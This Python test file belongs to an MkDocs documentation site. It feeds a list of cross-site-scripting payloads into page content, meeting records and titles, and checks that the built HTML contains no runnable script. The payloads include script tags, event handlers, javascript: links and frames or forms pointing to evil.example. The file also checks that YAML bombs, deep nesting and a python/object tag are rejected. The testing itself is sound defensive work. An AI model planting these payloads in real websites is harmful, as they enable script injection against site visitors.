"""Hostile input: payloads in every place text enters reach the built site as harmless text."""
from __future__ import annotations

import hashlib
import re
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import copy_project, mkdocs_build, tiny_project, write_files
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ogp.records.validate import validate

# Each payload tries to run script, load a frame or smuggle a dangerous address.
PAYLOADS = [
    "<script>alert('p1')</script>",
    "<SCRIPT SRC=//evil.example/p2.js></SCRIPT>",
    "<img src=x alt=p3 onerror=alert('p3')>",
    "<svg onload=alert('p4')></svg>",
    "<iframe src=\"https://evil.example/p5\"></iframe>",
    "<object data=\"https://evil.example/p6.swf\"></object>",
    "<embed src=\"https://evil.example/p7.swf\">",
    "<style>body{background:url(https://evil.example/p8.png)}</style>",
    "<a href=\"JaVaScRiPt:alert('p9')\">p9</a>",
    "<a href=\"&#106;avascript:alert('p10')\">p10</a>",
    "<a href=\"vbscript:msgbox('p11')\">p11</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">p12</a>",
    "[p13](javascript:alert('p13'))",
    "[p14](  JAVASCRIPT:alert('p14') )",
    "<p onmouseover=\"alert('p15')\">p15</p>",
    "<form action=\"https://evil.example/p16\"><input name=q></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/p17\">",
    "<base href=\"https://evil.example/p18/\">",
    "<details open ontoggle=alert('p19')>p19</details>",
    "![p20\" onerror=\"alert('p20')](img/p20.png)",
]
ATTR_LIST = 'Clickable paragraph p21\n{: onclick="alert(\'p21\')" style="background:url(https://evil.example/p21)" }'


class Audit(HTMLParser):
    """Collects every tag with its attributes, and the text inside <script> elements."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.scripts, self._in_script = [], [], False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)


def audit_site(site: Path) -> list[str]:
    """Everything in the built HTML that could run script or load from elsewhere."""
    found = []
    for path in site.rglob("*.html"):
        parser = Audit()
        parser.feed(path.read_text("utf-8"))
        rel = path.relative_to(site).as_posix()
        for tag, attrs in parser.tags:
            # Material's own search box is a <form> with no action; a form that sends elsewhere is not.
            if tag in ("iframe", "object", "embed", "base") or (tag == "form" and dict(attrs).get("action")) \
                    or (tag == "meta" and dict(attrs).get("http-equiv")):
                found.append(f"{rel}: <{tag}>")
            for name, value in attrs:
                if name.startswith("on"):
                    found.append(f"{rel}: <{tag} {name}>")
                if name in ("href", "src", "action", "data", "formaction") and value:
                    if re.match(r"\s*(javascript|vbscript|data):", value, re.I):
                        found.append(f"{rel}: <{tag} {name}={value[:40]}>")
                if tag == "script" and name == "src" and not value.startswith(("../", "assets/", "./")) and "/assets/" not in value:
                    found.append(f"{rel}: <script src={value}>")
        found += [f"{rel}: script runs {s[:40]!r}" for s in parser.scripts if re.search(r"alert|msgbox", s)]
    return found


@pytest.mark.slow
def test_payloads_everywhere_reach_the_site_harmless(tmp_path: Path):
    project = copy_project(tmp_path / "p")
    text = "\n\n".join(PAYLOADS)
    meeting = project / "data/meetings/2024-05-20-ngo-round-table.yml"
    body = meeting.read_text("utf-8")
    indented = "\n".join("  " + line for line in text.splitlines())
    body = re.sub(r"^agenda_en: \|\n(?:  .*\n|\n)*", f"agenda_en: |\n{indented}\n", body, count=1, flags=re.M)
    body = re.sub(r"^title_en: .*$", 'title_en: "Round table <script>alert(\'t1\')</script> & <b onclick=x>bold</b>"', body, count=1, flags=re.M)
    meeting.write_text(body, "utf-8")
    for lang in ("mn", "en"):
        minutes = project / f"data/meetings/2024-05-20-ngo-round-table.{lang}.md"
        minutes.write_text(minutes.read_text("utf-8") + "\n\n" + text + "\n", "utf-8")
        write_files(project, {f"content/hostile.{lang}.md": f"# Hostile {lang}\n\n{text}\n\n{ATTR_LIST}\n"})
    for folder in ("content/img", "content/meetings/img"):  # the image of payload p20, beside each page using it
        (project / folder).mkdir(parents=True, exist_ok=True)
        (project / folder / "p20.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    config = (project / "mkdocs.yml").read_text("utf-8").replace("not_in_nav: |\n", "not_in_nav: |\n  /hostile.*\n  /img/\n  /meetings/img/\n")
    (project / "mkdocs.yml").write_text(config, "utf-8")
    result = mkdocs_build(project, tmp_path / "site")
    assert result.returncode == 0, result.stdout + result.stderr
    site = tmp_path / "site"
    assert audit_site(site) == []
    hostile = (site / "en/hostile/index.html").read_text("utf-8")
    assert "p15" in hostile and "Clickable paragraph p21" in hostile  # the text survives, the behaviour does not
    # A record's title becomes the page title, printed by the theme without escaping: it is made safe.
    meeting_page = (site / "en/meetings/2024-05-20-ngo-round-table/index.html").read_text("utf-8")
    title = re.search(r"<title>([^<]*)</title>", meeting_page).group(1)  # cut to 70 characters, made safe
    assert title.startswith("Round table") and "<" not in title and len(title) <= 70
    head = meeting_page[: meeting_page.index("</head>")]
    og = re.search(r'<meta property="og:title" content="([^"]*)">', head).group(1)
    assert og.startswith("Round table ‹script›alert(&#39;t1&#39;)‹/script› &amp; ‹b onclick=x›bold‹/b›")
    assert "<script>alert" not in head
    meeting_page = (site / "en/meetings/2024-05-20-ngo-round-table/index.html").read_text("utf-8")
    assert "&lt;script&gt;alert('t1')&lt;/script&gt;" in meeting_page  # shown, not run
    assert "evil.example" not in "".join(re.findall(r'(?:src|href|action|data)="([^"]*)"', hostile))


def test_the_clean_site_passes_the_audit(build):
    # The audit must find nothing in the sample site (so the test above can only fail on payloads)...
    assert audit_site(build.site) == []


def test_the_audit_catches_what_it_looks_for(tmp_path: Path):
    # ...and it must catch each kind of thing it looks for.
    write_files(tmp_path, {"a.html": '<p onclick="x">a</p><a href=" javascript:x">b</a><iframe src="x"></iframe>'
                                     '<script>alert(1)</script><script src="https://evil.example/x.js"></script>'})
    assert len(audit_site(tmp_path)) == 5


def snapshot(root: Path) -> dict[str, str]:
    return {p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for folder in ("data", "content") for p in (root / folder).rglob("*") if p.is_file()}


@pytest.mark.slow
def test_a_failing_build_changes_no_file(tmp_path: Path):
    project = copy_project(tmp_path / "p")
    (project / "data/plans/nap5.yml").write_text("id: nap5\nnumber: [unclosed\n", "utf-8")
    before = snapshot(project)
    result = mkdocs_build(project, tmp_path / "site")
    assert result.returncode == 1 and "[yaml-syntax]" in result.stderr
    assert snapshot(project) == before


def test_yaml_bombs_and_deep_nesting_stop_quickly(tmp_path: Path):
    bomb = "a: &a [" + ",".join(["x"] * 50) + "]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 50) + "]\n" for i in range(6))
    write_files(tmp_path, {"data/organisations/bomb.yml": bomb,
                           "data/organisations/deep.yml": "x: " + "[" * 5000 + "]" * 5000 + "\n",
                           "data/organisations/wide.yml": "x: [" + ",".join(["1"] * 100_000) + "]\n"})
    started = time.perf_counter()
    _, problems = validate(tmp_path)
    assert time.perf_counter() - started < 5
    codes = {p.file.rsplit("/", 1)[-1]: p.code for p in problems if p.code in ("too-many-values", "too-deep", "yaml-syntax")}
    assert codes["bomb.yml"] == "too-many-values" and codes["wide.yml"] == "too-many-values"
    assert codes["deep.yml"] in ("too-deep", "yaml-syntax")


yaml_like = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.text(max_size=20), st.sampled_from(["2024-13-01", "no", "0012", "~", "&a x", "*a", "!!python/object:os.system", "\t", "- -", ": :", "{", "]"])),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
    max_leaves=12,
)


def render(value, indent: int = 0) -> str:
    pad = " " * indent
    if isinstance(value, dict):
        return "\n".join(f"{pad}{k}:\n{render(v, indent + 2)}" for k, v in value.items()) or f"{pad}{{}}"
    if isinstance(value, list):
        return "\n".join(f"{pad}-\n{render(v, indent + 2)}" for v in value) or f"{pad}[]"
    return f"{pad}{value}"


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(kind=st.sampled_from(["plans", "organisations", "meetings", "evidence", "cocreation"]),
       doc=st.one_of(yaml_like, st.text(max_size=200)), raw=st.booleans())
def test_random_yaml_gives_located_problems_never_a_traceback(tmp_path_factory, kind, doc, raw):
    root = tmp_path_factory.mktemp("fuzz")
    text = doc if raw and isinstance(doc, str) else render(doc)
    write_files(root, {f"data/{kind}/fuzz.yml": text})
    _, problems = validate(root)  # any exception fails the test
    for problem in problems:
        assert problem.file.startswith("data/")
        problem.format_text("mn"), problem.format_text("en")  # every message renders


def test_titles_cannot_break_out_of_the_title_element():
    from ogp.render.sanitize import safe_title

    # MkDocs escapes a heading's text; Jinja's striptags (Material's <title>) would unescape it.
    for title in ("&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;", "</title><script>alert(1)</script>"):
        assert safe_title(title) == "‹/title›‹script›alert(1)‹/script›"
    assert safe_title("Budget &amp; audit") == safe_title("Budget & audit") == "Budget &amp; audit"


@pytest.mark.slow
def test_a_front_matter_title_is_made_safe(tmp_path: Path):
    payload = "</title><script>alert('fm')</script><b onclick=x>"
    project = tiny_project(tmp_path / "p", {
        "content/index.mn.md": f"---\ntitle: \"{payload}\"\n---\n# Нүүр\n",
        "content/index.en.md": f"---\ntitle: \"{payload}\"\n---\n# Home\n",
        "content/other.mn.md": "# Өөр\n", "content/other.en.md": "# Other\n",
    })
    result = mkdocs_build(project, tmp_path / "site")
    assert result.returncode == 0, result.stderr
    assert audit_site(tmp_path / "site") == []
